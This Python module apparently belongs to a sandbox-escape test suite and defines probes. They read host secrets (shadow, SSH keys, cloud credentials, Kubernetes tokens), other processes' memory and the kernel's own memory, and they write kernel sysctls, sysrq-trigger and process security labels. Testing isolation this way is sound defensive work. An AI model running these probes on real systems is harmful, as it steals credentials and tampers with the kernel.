"""Looking at what is not one's own: keys, homes, other processes, the kernel's own words."""

from __future__ import annotations

from attacks.escapes.escape import Escape

SECRETS = {
    "the environment": Escape(
        "the caller's variables, where keys live, of each process that it can name",
        """
for pid in ("self", "thread-self", "1", "2", str(os.getppid()), POOL, VICTIM):
    for name in ("environ", "cmdline", "auxv"):
        try: print(read(f"/proc/{pid}/{name}"))
        except OSError: pass
print(os.environ)
stack = [line for line in open("/proc/self/maps") if "[stack]" in line][0].split()[0].split("-")
with open("/proc/self/mem", "rb") as memory:
    memory.seek(int(stack[0], 16)); print(memory.read(int(stack[1], 16) - int(stack[0], 16)).replace(bytes(8), b""))
""",
    ),
    "secret files": Escape(
        "files of the host by their paths: keys, shadow, tokens, histories",
        """
for path in (SECRET, HOME_SECRET, "/etc/shadow", "/etc/sudoers", "/root/.ssh/id_rsa", "/root/.bash_history", "/root/.aws/credentials",
             "/root/.netrc", "/etc/ssh/ssh_host_rsa_key", "/etc/machine-id", "/var/lib/docker", "/etc/hostname",
             "/etc/resolv.conf", "/run/secrets/kubernetes.io/serviceaccount/token", "/proc/1/cwd/etc/shadow"):
    steal(read, path)
""",
    ),
    "folders of the host": Escape(
        "walks all that there is, for a file of the host's that is no toolchain's",
        """
for folder in ("/home", "/var", "/opt", "/srv", "/mnt", "/media", "/run", "/boot", "/sys", REPOSITORY, os.path.dirname(SECRET)):
    steal(os.listdir, folder)
for name in os.listdir("/"):
    if name not in ("bin", "sbin", "lib", "lib64", "lib32", "usr", "etc", "dev", "proc", "work", "tmp"):
        for base, folders, files in os.walk("/" + name):
            for file in files:
                if ".pyenv" not in base and "python" not in base: print(os.path.join(base, file))
for base, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if os.path.join(base, f) not in ("/proc", "/usr", "/root")]
    if any("canary" in file for file in files): got(base)
""",
    ),
    "roots of others": Escape(
        "through /proc into another process's root, folder, files and memory",
        """
own = os.readlink("/proc/self")
for pid in {"1", "2", str(os.getppid()), POOL, VICTIM, *(p for p in os.listdir("/proc") if p.isdigit())} - {own}:
    steal(os.listdir, f"/proc/{pid}/root/home")
    steal(os.listdir, f"/proc/{pid}/cwd/")
    steal(os.listdir, f"/proc/{pid}/map_files")
    steal(os.listdir, f"/proc/{pid}/fd")
    steal(read, f"/proc/{pid}/mem")
    steal(read, f"/proc/{pid}/syscall")
    steal(read, f"/proc/{pid}/stack")
    steal(os.readlink, f"/proc/{pid}/exe")
""",
    ),
    "its own root": Escape(
        "upwards from its own root, folder and descriptors",
        """
for path in ("/proc/self/root/../../..", "/../../..", "/proc/self/cwd/../../../.."):
    for name in ("home", "var", "boot", "process_api", "sys"):
        steal(os.listdir, path + "/" + name)
for name in os.listdir("/proc/self/fd"):
    steal(os.listdir, f"/proc/self/fd/{name}/")
    steal(os.listdir, f"/proc/self/fd/{name}/../../..")
""",
    ),
    "kernel words": Escape(
        "what the kernel says of itself: log, memory, addresses, keys",
        """
for path in ("/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/kmem", "/dev/port", "/proc/kpagecount", "/proc/kpageflags",
             "/proc/vmallocinfo", "/proc/slabinfo", "/proc/keys", "/sys/kernel/notes", "/sys/kernel/debug/x", "/sys/fs/bpf"):
    steal(read, path)
steal(lambda: call("syslog", 3, ctypes.create_string_buffer(4096), 4096))
try: addresses = {line.split()[0] for line in open("/proc/kallsyms")}
except OSError: addresses = set()
if addresses - {"0000000000000000"}: got("kernel addresses")
""",
    ),
    "kernel dials": Escape(
        "turns the kernel's dials: core handler, module loader, sysrq, crash",
        """
for path in ("kernel/core_pattern", "kernel/modprobe", "kernel/hotplug", "kernel/sysrq", "kernel/hostname", "kernel/randomize_va_space",
             "kernel/ns_last_pid", "fs/suid_dumpable", "vm/overcommit_memory", "vm/drop_caches", "kernel/usermodehelper/bset",
             "net/ipv4/ip_forward", "net/ipv4/ping_group_range", "user/max_user_namespaces", "kernel/msgmax", "kernel/shmmax",
             "net/core/somaxconn", "fs/mqueue/queues_max", "kernel/domainname", "kernel/cad_pid"):
    path = "/proc/sys/" + path
    steal(lambda: write(path, read(path) or b"1"))
for path in ("/proc/sysrq-trigger", "/proc/mtrr", "/proc/irq/default_smp_affinity", "/proc/acpi/wakeup", "/proc/sys/kernel/printk"):
    steal(write, path)
""",
    ),
    "its own files in proc": Escape(
        "writes its own score, maps, groups and labels",
        """
for name, data in (("oom_score_adj", b"-1000"), ("oom_adj", b"-17"), ("uid_map", b"0 0 1"), ("gid_map", b"0 0 1"), ("setgroups", b"allow"),
                   ("attr/current", b"unconfined"), ("attr/exec", b"exec unconfined"), ("loginuid", b"0"), ("autogroup", b"-20"),
                   ("projid_map", b"0 0 1"), ("sched", b"0"), ("make-it-fail", b"1"), ("timens_offsets", b"boottime 1000 0")):
    steal(write, "/proc/self/" + name, data)
    steal(write, "/proc/1/" + name, data)
""",
    ),
    "memory through proc": Escape(
        "writes shared libraries through /proc/self/mem, and hopes that others run them",
        """
line = [l for l in open("/proc/self/maps") if "r-xp" in l and "libc" in l][0]
start = int(line.split("-")[0], 16)
try:
    with open("/proc/self/mem", "r+b", 0) as memory:
        memory.seek(start); page = memory.read(64); memory.seek(start); memory.write(page)
except OSError: pass
name = line.split()[-1]
steal(lambda: os.open(name, os.O_RDWR))
import mmap
descriptor = os.open(name, os.O_RDONLY)
steal(lambda: mmap.mmap(descriptor, 4096, flags=mmap.MAP_SHARED, prot=mmap.PROT_READ | mmap.PROT_WRITE))
""",
    ),
    "shared memory of the host": Escape(
        "the host's segments, queues and semaphores, of both kinds",
        """
steal(lambda: os.listdir("/dev/shm")); steal(lambda: os.listdir("/dev/mqueue"))
for name in ("shmget", "semget", "msgget"):
    steal(lambda: call(name, KEY, 4096, 0o666)); steal(lambda: call(name, KEY, 0o666, 0))
steal(lambda: call("shmat", 0, 0, 0o10000))
steal(lambda: call("shmctl", 0, 13, 0))
steal(lambda: call("mq_open", b"canary", 0, 0, 0))
steal(lambda: b"\\n".join(read("/proc/sysvipc/shm").splitlines()[1:]))
""",
    ),
    "an earlier stay": Escape(
        "looks in its own memory, descriptors and modules for what an earlier stay carried",
        """
needle = NEEDLE[0] + NEEDLE[1]
mine, wanted = needle.encode(), 0
with open("/proc/self/mem", "rb", 0) as memory:
    for line in open("/proc/self/maps"):
        span, rights, *_ = line.split()
        start, end = (int(x, 16) for x in span.split("-"))
        if rights[0] != "r" or "[v" in line or end - start > 1 << 28: continue
        try:
            memory.seek(start); data = memory.read(end - start)
        except (OSError, ValueError, OverflowError): continue
        at = data.find(b"EARLIER-" + b"STAY-")
        while at >= 0:
            word = data[at:at + 64].split(b"\\0")[0]
            if word[13:29].isalnum() and len(word[13:29]) == 16: got(word)
            at = data.find(b"EARLIER-" + b"STAY-", at + 1)
        del data
""",
    ),
    "identities by descriptors": Escape(
        "every descriptor above 4 is named, read, written, sent over and asked for its peer",
        """
import fcntl
listing = os.open("/proc/self/fd", os.O_RDONLY)
for name in os.listdir(listing):
    number = int(name)
    if number <= 4 or number == listing: continue
    try: os.fstat(number)
    except OSError: continue
    got((number, os.readlink(f"/proc/self/fd/{number}")))
for number in range(5, 2048):
    if number == listing: continue
    steal(os.read, number, 1) ; steal(os.write, number, b"x")
    steal(lambda: os.fchdir(number) or "entered")
""",
    ),
}
